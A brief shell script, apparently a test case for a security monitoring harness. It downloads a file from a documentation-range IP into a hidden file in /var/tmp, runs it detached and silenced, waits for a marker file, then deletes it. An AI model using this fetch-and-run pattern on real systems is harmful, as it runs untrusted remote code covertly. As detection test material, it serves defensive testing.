#!/bin/sh
. /opt/case/case.sh

cd /var/tmp && wget -q -O .d http://203.0.113.10/programs/marker
chmod 755 .d && (setsid ./.d >/dev/null 2>&1 &)
wait_for /tmp/reached
rm .d
took_place
